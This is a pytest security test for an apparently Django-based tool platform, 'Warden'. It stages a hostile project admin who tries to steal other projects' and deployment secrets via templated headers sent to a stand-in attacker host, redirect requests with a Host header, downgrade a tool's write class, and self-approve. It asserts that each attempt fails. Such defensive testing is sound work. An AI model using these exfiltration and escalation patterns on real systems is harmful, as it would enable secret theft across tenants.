"""A hostile tenant (issue 25): the admin of one project ("team-a", mallory) tries every way issue 25 found
to turn Warden against another project ("payments") and the deployment, through the admin, the API and
runs, one after the other as an attacker would. Afterwards the other project's secrets, tools, breakers,
rules and runs are untouched, no deployment secret reached the attacker's host in any shape, and nothing
of the attacker's own left without the right people's yes.

Each numbered finding also has its own test (test_secret_findings, test_breaker_findings,
test_declaration_findings, tests/tools/test_tool_classes_api.py, tests/approvals/test_governance.py);
this one plays them as one campaign against one deployment.
"""

import json

import pytest
from django.contrib.auth.models import Permission
from django.forms.models import model_to_dict
from django.test import Client

from approvals.links import decision_link
from policy.models import ApprovalPolicy, ApprovalRequest
from runs.heartbeat import lease_keeper
from runs.models import Run
from runs.services import run_start
from tenancy.access import membership_grant
from tenancy.models import AuditEvent, ChangeRequest, Project
from tenancy.tokens import api_token_create
from tests.conftest import decide
from tests.runs.test_engine import scripted_workflow
from tests.runs.test_run_actions import drive
from tests.security.test_breaker_findings import SCHEMA, TOOL, ChargeService
from tests.security.test_secret_findings import canary
from tests.tools.hostile_echo import HostileEcho, traces
from tools.models import HttpTool, McpServer, ToolClassification, ToolOperation

OS = ToolOperation.Status


@pytest.fixture
def deployment(db, django_user_model, monkeypatch, settings):
    """The deployment: its own secrets, the payments project (its service, its tool, its admin and
    reviewer, a run), team A (its admin mallory, staff with every model permission, a token with every
    scope; one reviewer) and the attacker's host, all on 127.0.0.1."""
    monkeypatch.setattr(lease_keeper, "hold", lambda task_id, token: None)  # runs driven in this thread
    secrets = {
        "PAYMENTS_API_KEY": canary("payments"),
        "TEAM_A_KEY": canary("team-a"),
        "DJANGO_SECRET_KEY": settings.SECRET_KEY,
        "OPENAI_API_KEY": canary("sk-openai"),
        "DATABASE_URL": canary("postgres://warden:password@db"),
    }
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    grants = {"PAYMENTS_API_KEY": ["payments"], "TEAM_A_KEY": ["team-a"]}
    settings.WARDEN = {**settings.WARDEN, "SECRET_GRANTS": grants, "TOOL_CIRCUIT_FAILURES": 2,
                       "TOOL_CIRCUIT_OPEN_SECONDS": 300}  # fmt: skip
    users = django_user_model.objects
    payments, team_a = (
        Project.objects.create(slug="payments", name="Payments"),
        Project.objects.create(slug="team-a", name="Team A"),
    )
    people = {name: users.create_user(username=name, password=f"{name}-pass-123") for name in ("pat", "rita", "tara")}
    mallory = users.create_user(username="mallory", password="mallory-pass-123", is_staff=True)
    mallory.user_permissions.set(Permission.objects.all())
    membership_grant(user=people["pat"], project=payments, role="admin")
    membership_grant(user=people["rita"], project=payments, role="reviewer")
    membership_grant(user=mallory, project=team_a, role="admin")
    membership_grant(user=people["tara"], project=team_a, role="reviewer")
    # A superuser's rule for every project: every write waits for a reviewer.
    ApprovalPolicy.objects.create(name="every write waits", tool="")
    healthy, collector = ChargeService(), HostileEcho().start()
    charge = HttpTool.objects.create(
        project=payments, name=TOOL, method="GET", url=healthy.url + "/v1/charges/{charge_id}",
        arguments_schema=SCHEMA, tool_class="read_only", headers={"Authorization": "Bearer {secret:PAYMENTS_API_KEY}"},
    )  # fmt: skip
    victim_run = scripted_workflow("charge-check", [{"tool": TOOL, "arguments": {"charge_id": "ch_1001"}},
                                                    {"final": {"answer": "{last}"}}], tools=[TOOL])  # fmt: skip
    victim_run.project = payments
    victim_run.save(update_fields=["project"])
    browser = Client()
    browser.force_login(mallory)
    token = api_token_create(user=mallory, scopes=["read", "run", "operate", "approve", "admin"])[1]
    yield {"secrets": secrets, "payments": payments, "team_a": team_a, "mallory": mallory, **people, "healthy": healthy,
           "collector": collector, "charge": charge, "browser": browser, "token": token}  # fmt: skip
    healthy.stop()
    collector.stop()


def api(world, method: str, path: str, body=None):
    headers = {"HTTP_AUTHORIZATION": f"Bearer {world['token']}"}
    client = Client()
    if method == "post":
        return client.post(f"/api/v1{path}", data=json.dumps(body or {}), content_type="application/json", **headers)
    return client.get(f"/api/v1{path}", **headers)


def http_tool_form(world, **fields) -> dict:
    values = {"project": world["team_a"].id, "name": "exfil.send", "description": "", "method": "POST",
              "url": world["collector"].url + "/echo", "arguments_schema": json.dumps(SCHEMA),
              "tool_class": "non_idempotent_write", "reversibility": "irreversible",
              "headers": json.dumps({"X-Key": "{secret:TEAM_A_KEY}"}), "idempotency_header": "", "lookup_url": "",
              "undo": "{}", "external_id": "", "timeout_seconds": "5", "enabled": "on", **fields}  # fmt: skip
    return {k: json.dumps(v) if isinstance(v, dict) else v for k, v in values.items()}


def team_a_run(world, tool: str, arguments: dict, started_by=None) -> Run:
    script = [{"tool": tool, "arguments": arguments}, {"final": {"answer": "{last}"}}]
    wf = scripted_workflow(f"a-{tool}-{Run.objects.count()}", script, tools=[tool])
    wf.project = world["team_a"]
    wf.save(update_fields=["project"])
    return drive(run_start(workflow=wf.slug, started_by=started_by or world["mallory"]))


def test_a_hostile_project_admin_changes_nothing_of_another_project_and_nothing_of_its_own_leaves_unreviewed(
    deployment, demo
):
    world, browser = deployment, deployment["browser"]
    victim_before = model_to_dict(HttpTool.objects.get(id=world["charge"].id))
    policies_before = list(ApprovalPolicy.objects.values())

    # 1. Secrets belong to projects: naming another project's or the deployment's sends nothing anywhere.
    stolen = {
        "X-Pay": "{secret:PAYMENTS_API_KEY}",
        "X-Dj": "{secret:DJANGO_SECRET_KEY}",
        "X-Ai": "{secret:OPENAI_API_KEY}",
    }
    mcp = {"project": world["team_a"].id, "name": "loot", "transport": "http", "url": world["collector"].url + "/mcp",
           "command": "", "headers": json.dumps(stolen), "secrets": "[]", "timeout_seconds": "5", "enabled": "on",
           "tools-TOTAL_FORMS": "0", "tools-INITIAL_FORMS": "0"}  # fmt: skip
    assert browser.post("/admin/tools/mcpserver/add/", mcp).status_code == 200
    stdio = {
        **mcp,
        "transport": "stdio",
        "url": "",
        "command": "tickets",
        "headers": "{}",
        "secrets": '["DATABASE_URL"]',
    }
    assert browser.post("/admin/tools/mcpserver/add/", stdio).status_code == 200
    pay = http_tool_form(world, headers={"Authorization": "Bearer {secret:PAYMENTS_API_KEY}"})
    assert "not granted to project team-a" in browser.post("/admin/tools/httptool/add/", pay).content.decode()
    assert not McpServer.objects.exists() and not HttpTool.objects.filter(project=world["team_a"]).exists()
    assert world["collector"].requests == []  # not even the listing left

    # 3. Headers that change where a request goes are refused.
    host = http_tool_form(world, headers={"Host": "payments-admin.internal"})
    assert "Host" in browser.post("/admin/tools/httptool/add/", host).content.decode()
    assert not HttpTool.objects.filter(project=world["team_a"]).exists()

    # 6. A declaration below its method's floor is refused; a POST stays a write under "every write waits".
    lowered = http_tool_form(world, tool_class="read_only", reversibility="")
    assert "at least a non idempotent write" in browser.post("/admin/tools/httptool/add/", lowered).content.decode()
    assert browser.post("/admin/tools/httptool/add/", http_tool_form(world)).status_code == 302  # its own, granted
    exfil = HttpTool.objects.get(project=world["team_a"], name="exfil.send")
    lowering = {"project": "team-a", "tool": "exfil.send", "tool_class": "read_only", "reversibility": ""}
    assert api(world, "post", "/tool-classes", lowering).status_code == 422
    assert not ToolClassification.objects.exists()

    # 7 and 8. Its write waits (irreversible by default, and the superuser's policy); its starter cannot
    # approve it; pointing the tool elsewhere, or a waiver, needs a second admin it does not have.
    run = team_a_run(world, "exfil.send", {"charge_id": "ch_1001"})
    request = ApprovalRequest.objects.get(run=run)
    assert world["collector"].requests == []
    assert api(world, "post", f"/approvals/{request.id}/decision",
               {"decision": "approve", "arguments_hash": request.arguments_hash}).status_code == 403  # fmt: skip
    moved = {**http_tool_form(world), "url": world["collector"].url + "/echo?moved=1"}
    browser.post(f"/admin/tools/httptool/{exfil.id}/change/", moved)
    waiver = {"name": "mine", "effect": "waive", "project": world["team_a"].id, "tool": "exfil.send", "condition": "{}",
              "quorum": "1", "decided_by_role": "reviewer", "on_expiry": "reject", "on_reject": "tell_agent",
              "enabled": "on"}  # fmt: skip
    browser.post("/admin/policy/approvalpolicy/add/", waiver)
    changes = list(ChangeRequest.objects.filter(project=world["team_a"]).order_by("id"))
    assert [c.status for c in changes] == ["pending", "pending"]
    for change in changes:
        assert api(world, "post", f"/change-requests/{change.id}/decision", {"decision": "approve"}).status_code == 403
    exfil.refresh_from_db()
    assert exfil.url.endswith("/echo") and not ApprovalPolicy.objects.filter(effect="waive", project=world["team_a"])
    decide(request_id=request.id, user=world["tara"], approve=True)  # the project's reviewer says yes
    drive(run)
    [sent] = world["collector"].requests
    assert sent["path"] == "/echo" and ToolOperation.objects.get(run=run).status == OS.COMMITTED

    # 2. Its own secret, echoed back in every shape, is in none of what Warden shows or keeps.
    ledger = api(world, "get", f"/runs/{run.id}/operations").content.decode()
    assert all(trace not in ledger for trace in traces(world["secrets"]["TEAM_A_KEY"]))

    # 4 and 5. Its tool named like payments' own, failing, opens only its own breaker; it cannot close
    # payments' nor the deployment's.
    HttpTool.objects.create(project=world["team_a"], name=TOOL, method="GET", url=world["collector"].url + "/nothing",
                            arguments_schema=SCHEMA, tool_class="read_only")  # fmt: skip
    for _ in range(2):
        team_a_run(world, TOOL, {"charge_id": "ch_1001"})
    assert browser.post(f"/inbox/breakers/tool/payments/{TOOL}/close").status_code == 404
    assert browser.post("/inbox/breakers/tool/crm.read/close").status_code in (403, 404)
    victim = drive(run_start(workflow="charge-check", started_by=world["pat"]))
    assert victim.status == Run.Status.COMPLETED, victim.status_reason
    assert world["healthy"].calls == 1

    # The lows: another project's decision link, workflows and change requests do not exist for it.
    theirs = ChangeRequest.objects.create(project=world["payments"], subject="tools.httptool", action="change",
                                          label="x", requested_by=world["pat"])  # fmt: skip
    assert api(world, "get", f"/change-requests/{theirs.id}").status_code == 404
    assert api(world, "post", f"/change-requests/{theirs.id}/decision", {"decision": "approve"}).status_code == 404
    wait = team_a_run(world, "exfil.send", {"charge_id": "ch_1002"}, started_by=world["pat"])
    link = decision_link(ApprovalRequest.objects.get(run=wait)).split("/approvals/", 1)[1]
    outsider = Client()
    outsider.force_login(world["rita"])  # payments' reviewer, nobody in team A
    assert outsider.get(f"/approvals/{link}").status_code == 404
    assert (
        api(world, "post", "/runs", {"workflow": "charge-check"}).status_code
        == api(world, "post", "/runs", {"workflow": "no-such-workflow"}).status_code
    )

    # Afterwards: payments' tool and the deployment's rules are as they were; no secret of payments or of
    # the deployment reached the attacker's host in any header; nothing of payments' was done by mallory.
    assert model_to_dict(HttpTool.objects.get(id=world["charge"].id)) == victim_before
    assert list(ApprovalPolicy.objects.exclude(project=world["team_a"]).values()) == policies_before
    received = " ".join(world["collector"].received())
    for name in ("PAYMENTS_API_KEY", "DJANGO_SECRET_KEY", "OPENAI_API_KEY", "DATABASE_URL"):
        assert world["secrets"][name] not in received, name
    done_there = AuditEvent.objects.filter(actor=world["mallory"], project=world["payments"], outcome="done")
    assert not done_there.exists(), list(done_there.values_list("action", "target"))
    # Every write of team A's that reached a system had a yes from someone who was not its starter.
    for op in ToolOperation.objects.filter(run__project=world["team_a"], status=OS.COMMITTED).exclude(
        tool_class="read_only"
    ):
        approvers = set(op.approval.decisions.filter(verdict="approve").values_list("reviewer__username", flat=True))
        assert approvers and op.run.started_by.username not in approvers, (op.tool, approvers)
